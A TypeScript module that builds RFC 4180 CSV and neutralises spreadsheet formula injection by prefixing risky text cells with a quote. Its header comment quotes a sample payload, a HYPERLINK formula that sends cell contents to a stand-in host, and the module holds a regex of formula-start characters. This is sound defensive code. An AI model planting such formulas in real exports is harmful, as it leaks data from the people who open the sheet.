/**
 * CSV the app writes for people to open in a spreadsheet (RFC 4180: every
 * value quoted, quotes doubled, CRLF line ends).
 *
 * Text cells that start with a character a spreadsheet reads as the start of
 * a formula are prefixed with a single quote (OWASP, "CSV Injection"), so a
 * lead source named `=HYPERLINK("http://evil.test/?"&A1,"x")` is shown as
 * text instead of becoming a live link that leaks the sheet. Quoting alone
 * does not help: Excel and LibreOffice evaluate `"=1+1"` too. The starts are
 * = + - @, TAB and CR (both used to smuggle a formula past a check of the
 * first visible character), and the full-width ＝ ＋ － ＠ that some
 * spreadsheets fold to their ASCII forms. Only text is changed: numbers the
 * app writes (counts) are passed as numbers and stay numbers, -3 included.
 */
export type CsvValue = string | number;

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A text cell made safe to open: a formula start gets a leading `'`. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One cell, quoted; text neutralised, numbers written as they are. */
export function csvCell(value: CsvValue): string {
  const text = typeof value === "number" ? String(value) : neutraliseFormula(value);
  return `"${text.replaceAll('"', '""')}"`;
}

/** Rows of cells as a CSV document, CRLF after every line (the last one too). */
export function toCsv(rows: readonly (readonly CsvValue[])[]): string {
  return rows.map((row) => row.map(csvCell).join(",") + "\r\n").join("");
}
